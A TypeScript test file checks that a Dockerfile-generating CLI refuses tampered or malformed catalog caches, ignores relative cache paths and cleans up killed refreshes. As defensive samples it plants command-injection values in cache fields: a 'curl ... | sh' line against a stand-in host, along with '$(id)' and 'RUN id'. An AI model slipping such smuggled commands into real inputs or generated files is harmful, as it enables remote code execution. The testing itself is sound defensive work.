// The cached catalog is outside input: a tampered or broken cache passes the same parser a fresh
// download does (source/catalog/parse-catalog.ts), or it is ignored with one note and replaced by
// the next --refresh. The built CLI runs against a cache folder of the test's own.
import {mkdir, mkdtemp, readdir, readFile, rm, writeFile} from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import process from 'node:process';
import {afterAll, beforeAll, beforeEach, describe, expect, it} from 'vitest';
import {parseCatalog} from '../source/catalog/parse-catalog.js';
import {embeddedCatalog} from '../source/catalog/active.js';
import {gaDocuments, serve, startCatalogServer, type CatalogServer} from './support/catalog-server.js';
import {runCli} from './cli-run.js';

let server: CatalogServer;
let cacheHome: string;
let refreshed: Record<string, unknown>;
const cacheFile = () => path.join(cacheHome, 'dotnet-image-wizard', 'catalog.json');
const bases = () => ['--manifest-base', `${server.url}/dotnet-docker/`, '--releases-base', `${server.url}/release-metadata/`];
const cli = (args: string[]) => runCli(['--detect', 'xml', ...args], {env: {XDG_CACHE_HOME: cacheHome, DOTNET_IMAGE_WIZARD_TIMEOUT: '5'}});
const aotAnswers = ['--yes', '--dotnet', '11.0', '--app', 'console', '--deploy', 'aot', '--shell', 'no', '--globalization', 'invariant', '--os', 'ubuntu', '--arch', 'amd64,arm64'];

async function writeCache(value: unknown): Promise<void> {
	await mkdir(path.dirname(cacheFile()), {recursive: true});
	await writeFile(cacheFile(), typeof value === 'string' ? value : JSON.stringify(value));
}

beforeAll(async () => {
	server = await startCatalogServer(serve(gaDocuments()));
	cacheHome = await mkdtemp(path.join(os.tmpdir(), 'diw-cache-'));
	const result = await cli(['--refresh', ...bases()]);
	expect(result.exitCode, result.stderr).toBe(0);
	refreshed = JSON.parse(await readFile(cacheFile(), 'utf8')) as Record<string, unknown>;
	await rm(cacheHome, {recursive: true, force: true});
});
afterAll(async () => {
	await server.stop();
});
beforeEach(async () => {
	cacheHome = await mkdtemp(path.join(os.tmpdir(), 'diw-cache-'));
	return () => rm(cacheHome, {recursive: true, force: true});
});

type Image = Record<string, unknown>;
const withImages = (change: (image: Image) => Image) => ({...refreshed, images: (refreshed['images'] as Image[]).map(image => change({...image}))});

describe('a tampered cache never reaches a generated file', () => {
	it('a codename with a quote and new lines is refused, and the AOT toolchain RUN line names a real suite', async () => {
		const hostile = "noble' ; curl -fsSL http://example.invalid/x | sh ; echo '\nRUN curl http://example.invalid | sh\n";
		await writeCache(withImages(image => (image['codename'] === 'noble' ? {...image, codename: hostile} : image)));
		const result = await cli([...aotAnswers, '--output', 'dockerfile']);
		expect(result.exitCode, result.stderr).toBe(0);
		expect(result.stdout).not.toContain('example.invalid');
		expect(result.stdout).toMatch(/Suites: [a-z]+ [a-z]+-updates/);
		expect(result.stderr).toMatch(/^note: the cached catalog .*catalog\.json is not valid \(image \d+ has an invalid "codename"\); using the built-in catalog until --refresh replaces it\.$/);
		expect(result.stderr.trim().split('\n')).toHaveLength(1);
	});

	for (const [name, change] of [
		['a tag with a space and a shell word', (image: Image) => ({...image, tag: `${String(image['tag'])} $(id)`})],
		['an alias that is not a tag', (image: Image) => ({...image, aliases: ['10.0\nRUN id']})],
		['a codename of another distro than its os', (image: Image) => (image['os'] === 'ubuntu' ? {...image, codename: 'bookworm'} : image)],
		['an architecture nobody builds', (image: Image) => ({...image, architectures: ['amd64', 's390x; id']})],
	] as const) {
		it(name, async () => {
			await writeCache(withImages(change));
			const result = await cli(['--yes', '--json', '--dotnet', '11.0']);
			expect(result.exitCode, result.stderr).toBe(0);
			expect(JSON.parse(result.stdout).catalog.kind).toBe('embedded');
			expect(result.stderr).toMatch(/^note: the cached catalog .* is not valid \(image \d+ has an invalid "\w+"\); using the built-in catalog until --refresh replaces it\.$/);
		});
	}

	it('a runtime version that would reach an ARG is refused', async () => {
		const lifecycle = (refreshed['lifecycle'] as Image[]).map(entry => ({...entry, runtimeVersion: '11.0.0"\nRUN id #'}));
		await writeCache({...refreshed, lifecycle});
		const result = await cli(['--yes', '--json', '--dotnet', '11.0']);
		expect(JSON.parse(result.stdout).catalog.kind).toBe('embedded');
		expect(result.stderr).toMatch(/is not valid \(lifecycle entry 1 has an invalid "runtimeVersion"\)/);
	});
});

describe('a cache with malformed entries is ignored with one note and replaced by the next refresh', () => {
	const source = {kind: 'refreshed', date: '2026-11-01', manifest: 'https://a.example/manifest.json', releases: 'https://a.example/r.json', fetchedAt: '2026-11-01T00:00:00.000Z'};
	const malformed: Array<[string, () => unknown]> = [
		['null entries', () => ({format: 1, images: [null], lifecycle: [null], source})],
		['entries without their fields, dated 2099', () => ({format: 1, images: [{}], lifecycle: [{}], source: {kind: 'refreshed', date: '2099-01-01', manifest: 'x', releases: 'y'}})],
		['a complete catalog dated 2099', () => ({...refreshed, source: {...(refreshed['source'] as object), date: '2099-01-01', fetchedAt: '2099-01-01T00:00:00.000Z'}})],
		['the JSON null', () => 'null'],
		['the images of one family only', () => ({...refreshed, images: (refreshed['images'] as Image[]).filter(image => image['repo'] === 'sdk')})],
	];
	for (const [name, make] of malformed) {
		it(name, async () => {
			const cache = make();
			await writeCache(cache);
			const run = await cli(['--yes', '--json', '--dotnet', '10.0']);
			expect(run.exitCode, run.stderr).toBe(0);
			expect(run.stderr).not.toMatch(/Cannot read|TypeError/);
			expect(run.stderr).toMatch(/^note: the cached catalog .*catalog\.json (is not valid \(.+\)|was written by another version of this program); using the built-in catalog until --refresh replaces it\.$/);
			expect(run.stderr.trim().split('\n')).toHaveLength(1);
			expect(JSON.parse(run.stdout).catalog).toMatchObject({kind: 'embedded', date: '2026-08-21'});

			const refresh = await cli(['--refresh', ...bases()]);
			expect(refresh.exitCode, refresh.stderr).toBe(0);
			expect(refresh.stdout).toMatch(/^refreshed the image catalog: \d+ tags .* since 2026-08-21\), saved to /);
			expect(refresh.stderr).toMatch(/^note: the cached catalog .*; this refresh replaces it\.\n?$/);

			const after = await cli(['--yes', '--json', '--dotnet', '11.0']);
			expect(after.stderr).toBe('');
			expect(JSON.parse(after.stdout).catalog.kind).toBe('refreshed');
		});
	}
});

describe('parseCatalog', () => {
	it('passes what a refresh saves, and the built-in catalog\'s images and support data', () => {
		expect(parseCatalog(refreshed, '2100-01-01').images.length).toBeGreaterThan(0);
		const embedded = {...embeddedCatalog, source: {kind: 'refreshed', date: '2026-08-21', manifest: 'https://example.org/m.json', releases: 'https://example.org/r.json', fetchedAt: '2026-08-21T00:00:00Z'}};
		expect(parseCatalog(embedded, '2026-12-01').lifecycle).toEqual(embeddedCatalog.lifecycle);
	});

	it('refuses a catalog dated after today', () => {
		expect(() => parseCatalog(refreshed, '2000-01-01')).toThrow(/it is dated \d{4}-\d\d-\d\d, after today \(2000-01-01\)/);
	});
});

describe('a relative HOME or XDG_CACHE_HOME', () => {
	it('never puts the cache inside the folder the program runs in: the value is ignored', async () => {
		const project = await mkdtemp(path.join(os.tmpdir(), 'diw-relative-home-'));
		// A valid cache planted where a relative HOME (and XDG_CACHE_HOME) would lead, from a source no real cache has.
		const planted = {...refreshed, source: {...(refreshed['source'] as object), manifest: 'https://planted.example/manifest.json'}};
		for (const folder of ['home/.cache', 'cache']) {
			await mkdir(path.join(project, folder, 'dotnet-image-wizard'), {recursive: true});
			await writeFile(path.join(project, folder, 'dotnet-image-wizard', 'catalog.json'), JSON.stringify(planted));
		}
		try {
			for (const env of [{HOME: 'home'}, {HOME: 'home', XDG_CACHE_HOME: 'cache'}, {XDG_CACHE_HOME: 'cache'}]) {
				const result = await runCli(['--detect', 'xml', '--yes', '--json', '--dotnet', '10.0'], {cwd: project, env: {XDG_CACHE_HOME: undefined, ...env}});
				expect(result.exitCode, result.stderr).toBe(0);
				expect(JSON.parse(result.stdout).catalog.manifest, JSON.stringify(env)).not.toBe('https://planted.example/manifest.json');
			}
		} finally {
			await rm(project, {recursive: true, force: true});
		}
	});
});

describe('a refresh killed with SIGKILL', () => {
	it('leaves a temporary file that the next refresh removes and names; a running one\'s stays', async () => {
		const {spawnSync} = await import('node:child_process');
		// The pid of a process that has ended: a refresh killed before it renamed its file.
		const gone = spawnSync(process.execPath, ['-e', '0']).pid;
		const folder = path.dirname(cacheFile());
		await mkdir(folder, {recursive: true});
		const killed = `catalog.json.${gone}-0badf00d.tmp`;
		const running = `catalog.json.${process.pid}-0badf00d.tmp`;
		await writeFile(path.join(folder, killed), '{"format": 1, "ima');
		await writeFile(path.join(folder, running), '{"format": 1, "ima');
		const result = await cli(['--refresh', ...bases()]);
		expect(result.exitCode, result.stderr).toBe(0);
		expect(result.stderr.trim()).toBe(`note: removed ${killed}, left by a refresh that was killed.`);
		// (code/ is the program's compiled code, a cache of its own.)
		expect((await readdir(folder)).filter(name => name !== 'code').sort()).toEqual(['catalog.json', running]);
	});
});
